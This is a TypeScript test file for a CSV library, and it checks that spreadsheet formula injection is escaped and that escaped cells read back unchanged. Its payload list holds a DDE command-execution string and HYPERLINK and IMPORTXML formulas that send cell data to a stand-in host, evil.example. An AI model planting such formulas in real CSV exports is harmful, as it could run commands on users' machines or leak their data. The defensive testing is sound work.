// Cells of a CSV that would be formulas, in the forms that spreadsheets take them in, and the way back.
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvLine, escapeFormula, unescapeFormula } from '@tessera/records';

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
/** What some spreadsheet or its import drops before it looks at a cell. */
const dropped = [
  '',
  ' ',
  '  ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2060',
  '\0',
  '\v',
  '\f',
  '"',
  '""',
  "'",
  "''",
  '\t',
  '\r',
  '\n',
  '\ufeff"',
  '" ',
];
const payloads = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"x")',
  'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '1+1',
  'SUM(1)',
  '',
];

const hostile = dropped.flatMap((before) => starts.flatMap((start) => payloads.map((payload) => before + start + payload)));

/** A file as a spreadsheet parts it. */
const cellsOf = (line: string): readonly string[] => {
  const [cells = []] = parse(line, { bom: true, relax_column_count: true });
  return cells;
};

describe('a formula in a cell', () => {
  it('is text in the file, in every form, and comes back as it was', () => {
    for (const text of hostile) {
      const [alone = '', last = ''] = [cellsOf(csvLine([text]))[0], cellsOf(csvLine(['a', text]))[1]];
      expect([text, alone.startsWith("'"), last.startsWith("'")]).toEqual([text, true, true]);
      expect([unescapeFormula(alone), unescapeFormula(last)]).toEqual([text, text]);
    }
  });

  it('begins by a tab or a line end as well', () => {
    for (const text of ['\tx', '\rx', '\nx', '\r\nx', "'\tx", '\t'])
      expect([escapeFormula(text), unescapeFormula(`'${text}`)]).toEqual([`'${text}`, text]);
  });

  it('is told from numbers and from texts that only look odd', () => {
    for (const text of [
      '-5',
      '-0.25',
      '-1234567890123456.7891',
      '5',
      'a=b',
      "it's",
      '"quoted"',
      "'tis",
      ' x',
      'x-1',
      '(−1)',
      '\ufeffx',
      '客户',
    ])
      expect(escapeFormula(text)).toBe(text);
    for (const text of ['-5-3', '-1e5', '-.5', '--5', '+5', '-5 ', '-٣', '-1,000']) expect(escapeFormula(text)).toBe(`'${text}`);
  });

  it('comes back from any text, however it is made', () => {
    const signs = fc.constantFrom(...starts, ...dropped.filter((each) => each !== ''), 'x', '1', '.', ',', ';', '5');
    fc.assert(
      fc.property(fc.string({ unit: signs }), (text) => unescapeFormula(escapeFormula(text)) === text),
      { numRuns: 5_000 },
    );
    fc.assert(
      fc.property(fc.array(fc.string({ unit: signs }), { minLength: 1, maxLength: 4 }), (cells) => {
        const read = parse(csvLine(cells), { relax_column_count: true })[0] ?? [];
        return JSON.stringify(read.map(unescapeFormula)) === JSON.stringify(cells);
      }),
      { numRuns: 2_000 },
    );
  });
});
